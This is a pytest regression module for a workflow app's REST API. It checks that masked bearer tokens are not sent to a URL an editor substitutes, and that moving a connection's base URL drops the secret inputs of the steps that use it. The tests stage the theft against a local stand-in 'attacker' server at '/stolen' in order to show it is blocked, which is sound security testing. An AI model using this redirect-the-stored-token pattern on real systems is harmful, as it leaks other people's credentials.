"""A flow's secret input, kept while the flow is edited, is not sent anywhere new over the REST
API: the probe's exploit, replayed against a served app with the HTTP connector."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from maillon.connectors.http import connector as http
from maillon.connectors.registry import Registry
from maillon.connectors.testing import FakeServer
from maillon.engine.flows import FlowDocument
from maillon.engine.redaction import MASK
from maillon.engine.runtime import Runtime
from maillon.engine.settings import Settings
from maillon.web.app import create_app
from tests.support.api import Live, hook, wait_run
from tests.support.probe import probe
from tests.support.server import LiveServer
from tests.support.services import Blocking

TOKEN = "INPUTSECRETBEARER5555"


@pytest.fixture
def live_http(make_settings: Callable[..., Settings]) -> Iterator[Live]:
    """The app served for real, with its workers and the HTTP connector."""
    runtime = Runtime(make_settings(), registry=Registry([probe, http]))
    with LiveServer(create_app(runtime=runtime)) as url:
        _, token = Blocking(runtime.services).tokens.create("tests")
        headers = {"Authorization": f"Bearer {token}"}
        with httpx.Client(base_url=url, headers=headers, timeout=10) as client:
            yield Live(url, client, Blocking(runtime.services), runtime)


def test_a_kept_secret_input_is_not_sent_to_a_url_of_the_editors_choosing(
    live_http: Live, fake_server: FakeServer
) -> None:
    live = live_http
    fake_server.on("POST", "/two", (200, {"ok": True}))
    for name in ("api", "plain"):
        values = {"base_url": fake_server.url} if name == "api" else {}
        r = live.client.post(
            "/api/connections", json={"app": "http", "name": name, "values": values}
        )
        assert r.status_code == 201, r.text
    step = {
        "key": "call2",
        "action": "http.send_request",
        "connection": "api",
        "input": {"method": "POST", "url": fake_server.url + "two", "bearer_token": TOKEN},
    }
    created = live.client.post("/api/flows", json={"name": "echo", "steps": [step]})
    assert created.status_code == 201, created.text
    flow = created.json()
    base = f"/api/flows/{flow['id']}"

    with FakeServer() as attacker:
        attacker.on("POST", "/stolen", (200, {}))
        # The flow as the API shows it, its own fields only (not its id, hook URL, ...).
        got = live.client.get(base).json()
        shown: dict[str, Any] = {k: v for k, v in got.items() if k in FlowDocument.model_fields}
        assert shown["steps"][0]["input"]["bearer_token"] == MASK
        shown["steps"][0]["connection"] = "plain"
        shown["steps"][0]["input"]["url"] = attacker.url + "stolen"
        for path in (base, f"{base}/draft"):
            refused = live.client.put(path, json=shown)
            assert refused.status_code == 422, refused.text
            assert (
                "steps[0] (call2).input.bearer_token: give the secret input again: the step's "
                "connection and url changed"
            ) in refused.text
        r = httpx.post(hook(live, flow), json={})
        wait_run(live.client, r.json()["run_ids"][0], "succeeded")
        assert attacker.received() == []
        [request] = fake_server.received("POST", "/two")
        assert request.headers["authorization"] == f"Bearer {TOKEN}"

        # Given again in the same save, the secret goes where its writer sends it.
        shown["steps"][0]["input"]["bearer_token"] = "my-own-token"
        assert live.client.put(base, json=shown).status_code == 200
        r = httpx.post(hook(live, flow), json={})
        wait_run(live.client, r.json()["run_ids"][0], "succeeded")
        [request] = attacker.received("POST", "/stolen")
        assert request.headers["authorization"] == "Bearer my-own-token"


def test_a_connection_moved_elsewhere_does_not_take_its_steps_secret_inputs_there(
    live_http: Live, fake_server: FakeServer
) -> None:
    # A connection with no secret of its own (an HTTP base URL) could be moved to any host,
    # and each step sending a relative URL there, with a bearer token written in the flow,
    # sent the token to it: in new runs, and in replays of the versions already run.
    live = live_http
    fake_server.on("POST", "/two", (500, {"error": "down"}))
    r = live.client.post(
        "/api/connections",
        json={"app": "http", "name": "api", "values": {"base_url": fake_server.url}},
    )
    assert r.status_code == 201, r.text
    connection = r.json()["id"]
    step = {
        "key": "call",
        "action": "http.send_request",
        "connection": "api",
        "max_attempts": 1,
        "input": {"method": "POST", "url": "two", "bearer_token": TOKEN},
    }
    created = live.client.post("/api/flows", json={"name": "echo", "steps": [step]})
    assert created.status_code == 201, created.text
    flow = created.json()
    r = httpx.post(hook(live, flow), json={})
    failed = r.json()["run_ids"][0]
    wait_run(live.client, failed, "failed")
    [request] = fake_server.received("POST", "/two")
    assert request.headers["authorization"] == f"Bearer {TOKEN}"

    with FakeServer() as attacker:
        attacker.on("POST", "/two", (200, {}))
        moved = live.client.patch(
            f"/api/connections/{connection}", json={"values": {"base_url": attacker.url}}
        )
        assert moved.status_code == 200, moved.text
        # The answer names the flow whose secret inputs were dropped.
        assert moved.json()["secret_inputs_dropped"] == [{"id": flow["id"], "name": "echo"}]
        again = "give the secret input again: it was dropped when connection 'api' changed base_url"
        replayed = live.client.post(f"/api/runs/{failed}/replay")
        assert replayed.status_code == 200, replayed.text
        assert again in str(wait_run(live.client, replayed.json()["id"], "failed"))
        r = httpx.post(hook(live, flow), json={})
        assert again in str(wait_run(live.client, r.json()["run_ids"][0], "failed"))
        assert attacker.received() == []
